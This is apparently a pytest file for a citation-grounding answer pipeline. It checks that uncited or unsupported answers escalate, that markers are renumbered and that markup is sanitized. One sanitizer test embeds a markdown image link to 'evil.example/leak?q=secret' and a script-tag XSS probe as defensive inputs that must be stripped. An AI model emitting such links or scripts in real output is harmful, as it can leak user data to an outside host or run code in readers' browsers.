"""Citation checking: scripted generators (real implementations of the generator protocol) on real hits."""

from __future__ import annotations

import asyncio

import pytest

from citedesk.core.text import answer_units, markers
from citedesk.core.types import Channel
from citedesk.serving.answer.grounding import sanitize
from citedesk.serving.answer.pipeline import AnswerPipeline
from citedesk.serving.answer.schemas import AnswerRequest

pytestmark = pytest.mark.slow

QUESTION = "What is the size of a null attribute in DynamoDB?"


class ScriptedGenerator:
    """Streams a fixed text in small deltas, like an LLM would."""

    name = "scripted"
    model = "scripted"

    def __init__(self, text: str) -> None:
        self.text = text

    async def stream(self, question, history, evidence, *, voice=False):
        for i in range(0, len(self.text), 7):
            yield self.text[i:i + 7]


def run(aws_container, text: str):
    base = aws_container.pipeline
    pipeline = AnswerPipeline(base.retriever, ScriptedGenerator(text), base.sparse, base.policy,
                              workspace=base.workspace)
    return asyncio.run(pipeline.answer(AnswerRequest(question=QUESTION, channel=Channel.CHAT)))


def test_supported_cited_answer_passes(aws_container) -> None:
    r = run(aws_container, "The size of a null attribute is the length of the attribute name plus 1 byte [1].")
    assert r.decision == "answer", r
    assert r.citations[0].marker == 1 and "null attribute" in r.citations[0].quote


def test_uncited_but_supported_sentence_gets_attributed(aws_container) -> None:
    r = run(aws_container, "The size of a null attribute is the length of the attribute name plus 1 byte.")
    assert r.decision == "answer" and r.answer.endswith("]") and len(r.citations) == 1


@pytest.mark.parametrize("text, reason", [
    ("A null attribute takes 7 bytes in DynamoDB [1].", "unsupported_citation"),  # quantity not in source
    ("A null attribute takes 2 kilobytes in DynamoDB.", "unsupported_claim"),
    ("The size of a null attribute is one byte [9].", "invalid_citation"),  # not a retrieved source
    ("ESCALATE", "generator_declined"),
    ("Our premium plan includes unlimited llamas and free pizza.", "unsupported_claim"),
    ("", "uncited_answer"),
])
def test_unchecked_answers_escalate(aws_container, text, reason) -> None:
    r = run(aws_container, text)
    assert r.decision == "escalate" and r.reason == reason and r.answer == "" and r.citations == []
    assert r.handoff_summary and QUESTION in r.handoff_summary


class EvidenceQuotingGenerator:
    """Answers with one verbatim sentence of each chosen evidence hit, cited by the hit's marker."""

    name = model = "quoting"

    def __init__(self, order: list[int]) -> None:
        self.order = order  # evidence markers, in the order the answer cites them

    async def stream(self, question, history, evidence, *, voice=False):
        for m in self.order:
            sentence = next(u.text for u in answer_units(evidence[m - 1].text) if u.kind == "sentence")
            yield f"{sentence.rstrip('.')} [{m}]. "


def test_markers_are_numbered_in_citation_order_without_gaps(aws_container) -> None:
    base = aws_container.pipeline
    pipeline = AnswerPipeline(base.retriever, EvidenceQuotingGenerator([3, 1]), base.sparse, base.policy,
                              workspace=base.workspace)
    r = asyncio.run(pipeline.answer(AnswerRequest(question=QUESTION, channel=Channel.CHAT)))
    assert r.decision == "answer", r
    assert markers(r.answer) == [1, 2]  # the draft cited [3] then [1]
    assert [c.marker for c in r.citations] == [1, 2]
    evidence = r.hits[: base.policy.evidence_chunks]
    third, first = evidence[2], evidence[0]
    assert (r.citations[0].article_id, r.citations[0].chunk_index) == (third.article_id, third.chunk_index)
    assert (r.citations[1].article_id, r.citations[1].chunk_index) == (first.article_id, first.chunk_index)


def test_markup_links_and_images_are_stripped(aws_container) -> None:
    text = ("The size of a null attribute is the length of the attribute name plus 1 byte [1]. "
            "![x](http://evil.example/leak?q=secret) <script>alert(1)</script>")
    r = run(aws_container, text)
    assert r.decision == "answer"
    assert "http" not in r.answer and "<" not in r.answer and "![" not in r.answer
    assert sanitize("See [the guide](https://evil.example/x) now <b>ok</b>") == "See the guide now ok"
    assert sanitize("## State **active_impaired** in _C#_ > `x`") == "State active_impaired in C# > x"
    # a URL goes with the "at" that points to it, not with the punctuation after it
    assert (sanitize("Open the Spot console at https://console.aws.amazon.com/ec2spot; Select your request. [1]")
            == "Open the Spot console; Select your request. [1]")
    # what held a URL or an image goes with it; a call's parentheses and a wildcard stay
    assert (sanitize("It is visible on the AWS Management Console (https://console.aws.amazon.com/rds/) and "
                     "through the RDS API. [1]") == "It is visible on the AWS Management Console and through the "
            "RDS API. [1]")
    assert (sanitize("Choose the Git diff icon ( ![Git diff](http://docs.aws.amazon.com/x/Git_diff.png)) in the "
                     "menu.") == "Choose the Git diff icon in the menu.")
    assert sanitize("Call ssl_is_used() to check.") == "Call ssl_is_used() to check."
    assert (sanitize("Use the catch-all value (*) for any **label**.") == "Use the catch-all value (*) for any label.")
    assert sanitize("See https://en.wikipedia.org/wiki/Foo_(bar), then go on.") == "See, then go on."


def test_short_follow_up_is_searched_with_the_previous_turn(aws_container) -> None:
    from citedesk.core.types import Turn
    from citedesk.serving.answer.pipeline import retrieval_query

    sparse = aws_container.sparse
    first = "What is the size of a null attribute in DynamoDB?"
    follow = AnswerRequest(question="And a Boolean one?", history=[Turn(role="user", text=first),
                                                                   Turn(role="assistant", text="1 byte")])
    assert retrieval_query(follow, sparse) == f"{first} And a Boolean one?"
    standalone = AnswerRequest(question=first, history=[Turn(role="user", text="hello there")])
    assert retrieval_query(standalone, sparse) == first
    r = asyncio.run(aws_container.pipeline.answer(follow))
    assert "amazon-dynamodb-developer-guide/CapacityUnitCalculations.md" in {h.article_id for h in r.hits}
